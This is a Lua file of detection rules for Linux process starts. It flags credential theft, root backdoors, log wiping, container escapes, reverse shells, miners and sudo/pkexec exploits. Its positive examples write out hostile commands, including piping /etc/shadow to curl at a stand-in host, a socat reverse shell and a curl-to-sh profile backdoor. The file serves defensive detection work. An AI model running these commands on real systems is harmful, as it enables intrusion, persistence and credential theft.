-- Linux process starts: process injection, account and credential files,
-- SSH keys, log wiping, security tooling switched off, containers.
--
-- All of these are seen from the command line of a process start (the
-- `process` provider).  A program that calls ptrace(2) or opens /etc/shadow
-- itself, with no tell-tale command line, is seen by the rules of
-- files_and_ptrace.lua, over the tracefs `file` and `ptrace` providers.
local rules = require "etwlua.rules"
local m = require "etwlua.match"

local shells = m.set { "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox" }
local function cl(p) return p.command_line or "" end
local function any(s, list)
  for _, n in ipairs(list) do if s:find(n, 1, true) then return n end end
  return nil
end
local F1 = m.finder { "mimipenguin", "3snake", "truffleproc", "swap_digger" }
local F2 = m.finder { "/var/log/auth", "/var/log/secure", "/var/log/syslog", "wtmp", "btmp", "/var/log/audit", "lastlog", "/var/log/messages" }
local F3 = m.finder { "deepce.sh", "cdk evaluate", "cdk run", "cdk-exploit", "amicontained" }
local F4 = m.finder { "auditd", "firewalld", "apparmor", "falco", "osqueryd", "wazuh", "crowdstrike", "falcon-sensor" }
local F5 = m.finder { "xmrig", "minerd", "cpuminer", "xmr-stak", "kdevtmpfsi", "kinsing" }
local F6 = m.finder { "stratum+tcp://", "stratum+ssl://", "--donate-level", "-o pool.", "cryptonight" }
-- a write into PATH from a shell command: "> PATH", ">> PATH", tee, cp, mv, sed -i, install
local function writes(c, path_pat)
  return c:find(">>?%s*[\"']?" .. path_pat) ~= nil or (c:find("tee", 1, true) and c:find(path_pat) ~= nil)
    or (c:find("sed%s+%-i") ~= nil and c:find(path_pat) ~= nil)
    or ((c:find("^cp%s") or c:find("[;&|%s]cp%s") or c:find("^mv%s") or c:find("[;&|%s]mv%s")
         or c:find("install%s")) ~= nil and c:find("%s" .. path_pat .. "%S*%s*$") ~= nil)
end
local function L(image, command_line, extra)
  local t = { image = image, command_line = command_line }
  for k, v in pairs(extra or {}) do t[k] = v end
  return t
end

rules.define {
  id = "lnx.ptrace_attach_tool", platform = "linux", severity = "medium",
  names = { "gdb", "strace", "ltrace", "gcore" },
  title = "Debugger or tracer attached to a running process",
  description = "gdb -p, strace -p or ltrace -p attach with ptrace to read or change another process (credential "
    .. "theft from sshd or a browser, code injection). Custom injectors "
    .. "are lnx.ptrace_attach's, from the syscall.",
  technique = { "T1055.008" },
  falsepositives = { "Developers debugging their own services" },
  match = function(p)
    local n = p.name or ""
    if n ~= "gdb" and n ~= "strace" and n ~= "ltrace" and n ~= "gcore" then return false end
    local c = " " .. cl(p) .. " "
    return n == "gcore" or c:find("%s%-p%s*%d") ~= nil or c:find("%-%-pid[=%s]") ~= nil or c:find("%s%-%-attach") ~= nil
      or c:find("attach%s+%d") ~= nil
  end,
  examples = {
    positive = { L("/usr/bin/gdb", "gdb -p 812 -batch -ex 'call (int)dlopen(\"/tmp/x.so\",2)'"),
                 L("/usr/bin/strace", "strace -f -p 1021 -e trace=read,write -s 256"),
                 L("/usr/bin/gcore", "gcore -o /tmp/sshd 812") },
    negative = { L("/usr/bin/gdb", "gdb ./a.out"), L("/usr/bin/strace", "strace -f ./build.sh") },
  },
}

rules.define {
  id = "lnx.process_memory_read", platform = "linux", severity = "high",
  title = "Another process's memory read through /proc",
  description = "dd or cat of /proc/PID/mem, or credential scrapers (mimipenguin, 3snake, truffleproc), read "
    .. "secrets out of running processes. process_vm_readv(2) callers need a syscalls tracepoint.",
  technique = { "T1003.007" },
  falsepositives = { "Forensic memory acquisition" },
  match = function(p)
    local c = cl(p)
    return c:find("/proc/%d+/mem") ~= nil or c:find("/proc/%$[%w_{}]+/mem") ~= nil or
      F1(c:lower()) ~= nil
  end,
  examples = {
    positive = { L("/usr/bin/dd", "dd if=/proc/812/mem bs=1 skip=94558217003008 count=4096"),
                 L("/usr/bin/bash", "bash mimipenguin.sh") },
    negative = { L("/usr/bin/cat", "cat /proc/812/status"), L("/usr/bin/cat", "cat /proc/meminfo") },
  },
}

rules.define {
  id = "lnx.passwd_shadow_modified", platform = "linux", severity = "critical",
  title = "/etc/passwd or /etc/shadow written by a shell command, or a second UID 0",
  description = "echo ... >> /etc/passwd, sed -i on /etc/shadow, or useradd/usermod -o -u 0 create a root "
    .. "backdoor. Editors and passwd/vipw/chpasswd are the normal way and are not matched.",
  technique = { "T1136.001", "T1098" },
  falsepositives = { "Configuration-management tools that template /etc/passwd (they rarely use shell redirects)" },
  match = function(p)
    local c, n = cl(p), p.name or ""
    if (n == "useradd" or n == "usermod" or n == "adduser") and c:find("%-o") and c:find("%-u%s*0%f[%D]") then
      return true, "second UID 0 account"
    end
    return writes(c, "/etc/passwd") or writes(c, "/etc/shadow") or writes(c, "/etc/group") or false
  end,
  examples = {
    positive = { L("/usr/bin/bash", [[bash -c 'echo "toor:x:0:0::/root:/bin/bash" >> /etc/passwd']]),
                 L("/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor"),
                 L("/usr/bin/sed", [[sed -i s/^root:[^:]*:/root::/ /etc/shadow]]) },
    negative = { L("/usr/sbin/useradd", "useradd -m alice"), L("/usr/bin/grep", "grep alice /etc/passwd"),
                 L("/usr/bin/bash", "bash -c 'getent passwd > /tmp/users.txt'") },
  },
}

rules.define {
  id = "lnx.shadow_copied_or_cracked", platform = "linux", severity = "high",
  title = "Shadow file copied, unshadowed or fed to a cracker",
  description = "cp/cat/base64 of /etc/shadow to another place, unshadow, john or hashcat on it take the hashes "
    .. "offline. A file-open tracepoint would catch programs that read it directly.",
  technique = { "T1003.008" },
  falsepositives = { "Backup scripts copying /etc" },
  match = function(p)
    local c, n = cl(p), p.name or ""
    if n == "unshadow" or ((n == "john" or n == "hashcat") and c:find("shadow", 1, true)) then return true end
    return c:find("/etc/shadow", 1, true) ~= nil and (n == "cp" or n == "scp" or n == "base64" or n == "xxd" or n == "nc"
      or n == "curl" or ((n == "cat" or shells[n]) and (c:find("|") or c:find(">"))) ~= nil)
  end,
  examples = {
    positive = { L("/usr/bin/cp", "cp /etc/shadow /tmp/.s"), L("/usr/sbin/unshadow", "unshadow passwd shadow"),
                 L("/usr/bin/bash", "bash -c 'cat /etc/shadow | base64 | curl -d @- http://x.test'") },
    negative = { L("/usr/bin/ls", "ls -l /etc/shadow"), L("/usr/bin/chage", "chage -l alice") },
  },
}

rules.define {
  id = "lnx.ssh_authorized_keys_planted", platform = "linux", severity = "high",
  title = "SSH authorized_keys written from a shell command",
  description = "echo KEY >> ~/.ssh/authorized_keys, tee or cp into it plants a login that survives password "
    .. "changes.",
  technique = { "T1098.004" },
  falsepositives = { "Provisioning scripts (cloud-init writes through its own process, not a shell redirect)" },
  match = function(p)
    local c = cl(p)
    if not c:find("authorized_keys", 1, true) then return false end
    return writes(c, "[^%s]*authorized_keys2?") or (p.name == "ssh-copy-id" and false) or false
  end,
  examples = {
    positive = { L("/usr/bin/bash", [[bash -c 'echo "ssh-ed25519 AAAAC3Nza attacker" >> /root/.ssh/authorized_keys']]),
                 L("/usr/bin/tee", "tee -a /home/bob/.ssh/authorized_keys") },
    negative = { L("/usr/bin/cat", "cat /root/.ssh/authorized_keys"), L("/usr/bin/ssh-keygen", "ssh-keygen -t ed25519") },
  },
}

rules.define {
  id = "lnx.log_files_wiped", platform = "linux", severity = "high",
  title = "System logs or login records wiped",
  description = "shred, truncate, rm or '> file' on /var/log, wtmp/btmp/lastlog, or journalctl --vacuum/--rotate "
    .. "with a tiny limit erase the evidence.",
  technique = { "T1070.002" },
  falsepositives = { "logrotate (it does not use these commands) and disk-full emergencies" },
  match = function(p)
    local c, n = cl(p) .. " ", p.name or ""
    if n == "journalctl" then return c:find("%-%-vacuum%-size=%d+[kK]?%s") ~= nil or c:find("%-%-vacuum%-time=%d+s%s") ~= nil end
    local logs = c:find("/var/log/") or c:find("wtmp") or c:find("btmp") or c:find("lastlog")
    if not logs then return false end
    if n == "shred" or n == "srm" or n == "wipe" then return true end
    if n == "truncate" then return c:find("%-s%s*0") ~= nil end
    if n == "rm" then
      return F2(c) ~= nil
    end
    if shells[n] then return c:find("[^>]>%s*/var/log/") ~= nil or c:find("^>%s*/var/log/") ~= nil end
    return false
  end,
  examples = {
    positive = { L("/usr/bin/shred", "shred -zu /var/log/auth.log"), L("/usr/bin/truncate", "truncate -s 0 /var/log/wtmp"),
                 L("/usr/bin/bash", "bash -c 'cat /dev/null > /var/log/secure'"),
                 L("/usr/bin/journalctl", "journalctl --vacuum-size=1K") },
    negative = { L("/usr/bin/tail", "tail -f /var/log/syslog"), L("/usr/bin/journalctl", "journalctl --vacuum-size=500M"),
                 L("/usr/bin/rm", "rm /var/log/app/old.log.3.gz") },
  },
}

rules.define {
  id = "lnx.docker_privileged_or_host_mount", platform = "linux", severity = "high",
  names = { "docker", "podman", "nerdctl", "ctr" },
  title = "Container started privileged, with the host root or the Docker socket",
  description = "docker/podman run --privileged, -v /:/host, the docker.sock mounted inside, or --pid=host give the "
    .. "container full control of the host.",
  technique = { "T1611", "T1610" },
  falsepositives = { "CI runners and monitoring agents that legitimately mount the socket" },
  match = function(p)
    local n, c = p.name or "", cl(p)
    if n ~= "docker" and n ~= "podman" and n ~= "nerdctl" and n ~= "ctr" then return false end
    if not (c:find("%srun%s") or c:find("%screate%s") or c:find("%sexec%s")) then return false end
    return (c:find("%-%-privileged") or c:find("%-v%s*/:/") or c:find("%-%-volume[=%s]/:/") or c:find("docker%.sock")
      or c:find("%-%-pid[=%s]host") or c:find("%-%-cap%-add[=%s]*sys_admin") or c:find("%-%-cap%-add[=%s]*SYS_ADMIN")
      or c:find("%-%-mount%s+type=bind,source=/,")) ~= nil
  end,
  examples = {
    positive = { L("/usr/bin/docker", "docker run --rm -it --privileged ubuntu bash"),
                 L("/usr/bin/docker", "docker run -v /:/host -it alpine chroot /host sh"),
                 L("/usr/bin/docker", "docker run -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh") },
    negative = { L("/usr/bin/docker", "docker run --rm -p 8080:80 nginx"), L("/usr/bin/docker", "docker ps -a") },
  },
}

rules.define {
  id = "lnx.container_breakout_commands", platform = "linux", severity = "critical",
  title = "Container escape technique in a command line",
  description = "Writing a cgroup release_agent, core_pattern, chroot into a mounted host root, or the deepce/cdk "
    .. "escape kits.",
  technique = { "T1611" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    return (c:find("release_agent", 1, true) and c:find(">", 1, true)) or (c:find("core_pattern", 1, true) and c:find(">", 1, true))
      or c:find("chroot%s+/host%f[%s/]") or c:find("chroot%s+/mnt/host") or
      F3(c:lower()) ~= nil
  end,
  examples = {
    positive = { L("/bin/sh", [[sh -c 'echo "$host_path/cmd" > /tmp/cgrp/release_agent']]),
                 L("/usr/sbin/chroot", "chroot /host /bin/bash"), L("/tmp/cdk", "cdk evaluate --full") },
    negative = { L("/usr/sbin/chroot", "chroot /srv/build-root make"), L("/usr/bin/cat", "cat /proc/sys/kernel/core_pattern") },
  },
}

rules.define {
  id = "lnx.security_tooling_disabled", platform = "linux", severity = "high",
  names = { "auditctl", "setenforce", "aa-teardown", "ufw", "iptables", "ip6tables", "nft", "systemctl", "service" },
  title = "auditd, SELinux, AppArmor or the firewall switched off",
  description = "auditctl -D/-e 0, stopping auditd, setenforce 0, aa-teardown, ufw disable, iptables -F or stopping "
    .. "firewalld remove the host's defences and audit trail.",
  technique = { "T1562.001", "T1562.004", "T1562.012" },
  falsepositives = { "Administrators troubleshooting (documented changes)" },
  match = function(p)
    local n, c = p.name or "", cl(p) .. " "
    if n == "auditctl" then return c:find("%-D%f[%s]") ~= nil or c:find("%-e%s*0") ~= nil end
    if n == "setenforce" then return c:find("%s0%f[%W]") ~= nil or c:lower():find("permissive", 1, true) ~= nil end
    if n == "aa-teardown" then return true end
    if n == "ufw" then return c:find("%sdisable") ~= nil end
    if n == "iptables" or n == "ip6tables" or n == "nft" then
      return c:find("%s%-F%f[%s]") ~= nil or c:find("%-%-flush") ~= nil or c:find("flush ruleset", 1, true) ~= nil
    end
    if n == "systemctl" or n == "service" then
      return (c:find("stop") or c:find("disable") or c:find("mask")) ~= nil and
        F4(c) ~= nil
    end
    return false
  end,
  examples = {
    positive = { L("/usr/sbin/auditctl", "auditctl -e 0"), L("/usr/sbin/setenforce", "setenforce 0"),
                 L("/usr/bin/systemctl", "systemctl stop auditd"), L("/usr/sbin/iptables", "iptables -F") },
    negative = { L("/usr/sbin/auditctl", "auditctl -l"), L("/usr/bin/systemctl", "systemctl restart nginx"),
                 L("/usr/sbin/iptables", "iptables -L -n") },
  },
}

rules.define {
  id = "lnx.socat_or_ssh_tunnel_shell", platform = "linux", severity = "high",
  names = { "socat", "ssh" },
  title = "socat shell or reverse SSH tunnel",
  description = "socat exec:/system: to a TCP peer hands out a shell; ssh -R with -N (no command) from a server "
    .. "exposes internal ports to an outside host.",
  technique = { "T1059.004", "T1572" },
  falsepositives = { "Support tunnels set up on purpose (ssh -R)" },
  match = function(p)
    local n, c = p.name or "", cl(p)
    if n == "socat" then
      local l = c:lower()
      return (l:find("exec:", 1, true) or l:find("system:", 1, true)) ~= nil and (l:find("tcp", 1, true) or l:find("ssl", 1, true)) ~= nil
    end
    return n == "ssh" and c:find("%s%-[%w]*R%s*%d") ~= nil and c:find("%s%-[%w]*N") ~= nil
  end,
  examples = {
    positive = { L("/usr/bin/socat", "socat tcp-connect:10.0.0.5:4444 exec:/bin/bash,pty,stderr,setsid"),
                 L("/usr/bin/ssh", "ssh -f -N -R 2222:localhost:22 user@203.0.113.9") },
    negative = { L("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80"), L("/usr/bin/ssh", "ssh -L 5432:db:5432 bastion") },
  },
}

rules.define {
  id = "lnx.cryptominer", platform = "linux", severity = "high",
  title = "Cryptocurrency miner started",
  description = "xmrig and friends, or any command line with a stratum+tcp pool URL, mine on stolen CPU.",
  technique = { "T1496" },
  falsepositives = { "Hobby mining on your own machine" },
  match = function(p)
    local c, n = cl(p):lower(), p.name or ""
    return F5(n) ~= nil or
      F6(c) ~= nil
  end,
  examples = {
    positive = { L("/tmp/.x/xmrig", "xmrig -o pool.minexmr.com:443 -u 4A... --donate-level 1"),
                 L("/dev/shm/k", "k -a cryptonight -o stratum+tcp://x.test:3333") },
    negative = { L("/usr/bin/python3", "python3 miner_report.py"), L("/usr/bin/top", "top -b -n 1") },
  },
}

rules.define {
  id = "lnx.sudo_exploit_shapes", platform = "linux", severity = "critical",
  names = { "sudo", "sudoedit", "pkexec" },
  title = "sudo or pkexec exploitation shapes",
  description = "sudo -u#-1 (CVE-2019-14287), sudoedit -s ending in a backslash (Baron Samedit) and pkexec with an "
    .. "empty argument list (PwnKit) escalate to root.",
  technique = { "T1068", "T1548.003" },
  falsepositives = { "Vulnerability scanners testing these bugs" },
  match = function(p)
    local n, c = p.name or "", cl(p)
    if n == "sudo" then return c:find("%-u%s*#%-1") ~= nil or c:find("%-u%s*#4294967295") ~= nil end
    if n == "sudoedit" then return c:find("%-s") ~= nil and c:find("\\%s*$") ~= nil end
    if n == "pkexec" then return p.command_line ~= nil and #p.args <= 1 end
    return false
  end,
  examples = {
    positive = { L("/usr/bin/sudo", "sudo -u#-1 /bin/bash"), L("/usr/bin/sudoedit", [[sudoedit -s /\]]),
                 L("/usr/bin/pkexec", "pkexec") },
    negative = { L("/usr/bin/sudo", "sudo -u postgres psql"), L("/usr/bin/pkexec", "pkexec /usr/bin/gparted") },
  },
}

rules.define {
  id = "lnx.pam_or_shell_profile_backdoor", platform = "linux", severity = "high",
  title = "PAM configuration or system-wide shell profile written from a shell",
  description = "Writing /etc/pam.d (pam_exec, a permissive pam_unix) or /etc/profile.d, /etc/bash.bashrc runs "
    .. "attacker code at every login or captures passwords.",
  technique = { "T1556.003", "T1546.004" },
  falsepositives = { "Configuration management writing these files through shell steps" },
  match = function(p)
    local c = cl(p)
    return writes(c, "/etc/pam%.d/") or writes(c, "/etc/profile%.d/") or writes(c, "/etc/bash%.bashrc")
      or writes(c, "/etc/profile%f[%s\"']") or (c:find("pam_exec", 1, true) and c:find(">", 1, true)) ~= nil
  end,
  examples = {
    positive = { L("/usr/bin/bash", [[bash -c 'echo "auth optional pam_exec.so quiet expose_authtok /tmp/.l" >> /etc/pam.d/sshd']]),
                 L("/usr/bin/bash", [[bash -c 'echo "curl -s http://x.test/a | sh" > /etc/profile.d/z.sh']]) },
    negative = { L("/usr/bin/cat", "cat /etc/pam.d/sshd"), L("/usr/bin/bash", "bash -c 'source /etc/profile'") },
  },
}
